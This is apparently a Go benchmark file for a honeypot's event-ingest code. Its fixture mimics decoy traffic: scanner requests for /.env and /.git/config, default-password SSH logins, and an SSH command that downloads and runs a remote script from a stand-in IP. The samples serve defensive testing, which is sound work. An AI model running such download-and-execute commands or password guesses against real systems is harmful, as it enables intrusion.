package ingest

import (
	"fmt"
	"net/netip"
	"testing"

	"github.com/decnet/decnet/internal/model"
)

// benchMix is a realistic slice of decoy traffic: web requests with full
// header sets (scanners, a browser behind a leaking proxy, curl), SSH
// password attempts and shell commands.
func benchMix() []model.Event {
	httpReq := func(headers, path string) model.Event {
		return event("http", "request", map[string]string{
			"method": "GET", "path": path, "remote_addr": "198.51.100.23:40000", "headers": headers, "body": "",
		})
	}
	evs := []model.Event{
		httpReq(`{"Host":"10.0.0.5","User-Agent":"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)","Connection":"close"}`, "/"),
		httpReq(`{"Host":"10.0.0.5","User-Agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36","Accept":"text/html,application/xhtml+xml","Accept-Encoding":"gzip, deflate","Accept-Language":"en-US,en;q=0.9","Connection":"keep-alive","X-Forwarded-For":"8.8.4.4","Cookie":"PHPSESSID=abc"}`, "/wp-login.php"),
		httpReq(`[["Host","10.0.0.5"],["User-Agent","curl/8.5.0"],["Accept","*/*"]]`, "/.env"),
		httpReq(`{"Host":"10.0.0.5","User-Agent":"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)","Accept-Encoding":"gzip","X-Real-IP":"127.0.0.1"}`, "/.git/config"),
		event("ssh", "auth_attempt", map[string]string{"username": "root", "principal": "root", "secret_printable": "123456", "secret_b64": b64("123456"), "src_ip": "198.51.100.23"}),
		event("ssh", "auth_attempt", map[string]string{"username": "admin", "principal": "admin", "secret_printable": "admin@2024!", "secret_b64": b64("admin@2024!"), "src_ip": "198.51.100.23"}),
		event("ssh", "command", map[string]string{"cmd": "uname -a", "uid": "0", "user": "root", "pwd": "/root"}),
		event("ssh", "command", map[string]string{"cmd": "cd /tmp; wget http://203.0.113.9/x.sh; chmod +x x.sh; ./x.sh", "uid": "0", "user": "root", "pwd": "/root"}),
		event("ssh", "command", map[string]string{"cmd": "cat /proc/cpuinfo | grep name | wc -l", "uid": "0", "user": "root", "pwd": "/root"}),
		event("telnet", "command", map[string]string{"cmd": "enable; system; shell; sh", "uid": "0", "pwd": "/"}),
	}
	for i := range evs {
		evs[i].ID = fmt.Sprintf("0190-%d", i)
		evs[i].Raw = "<134>1 2026-03-01T12:00:00Z decky-01 ssh - command [relay@55555 x=\"y\"] msg"
	}
	return evs
}

func BenchmarkDerive(b *testing.B) {
	evs := benchMix()
	o := DeriveOptions{TrustedProxies: []netip.Prefix{netip.MustParsePrefix("10.9.0.0/16")}}
	b.ReportAllocs()
	b.ResetTimer()
	i := 0
	for b.Loop() {
		_ = Derive(evs[i%len(evs)], o)
		i++
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
}

func BenchmarkDeriveByKind(b *testing.B) {
	evs := benchMix()
	for _, k := range []struct {
		name string
		ev   model.Event
	}{{"http_browser", evs[1]}, {"http_curl", evs[2]}, {"ssh_auth", evs[4]}, {"command", evs[6]}} {
		b.Run(k.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				_ = Derive(k.ev, DeriveOptions{})
			}
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
		})
	}
}
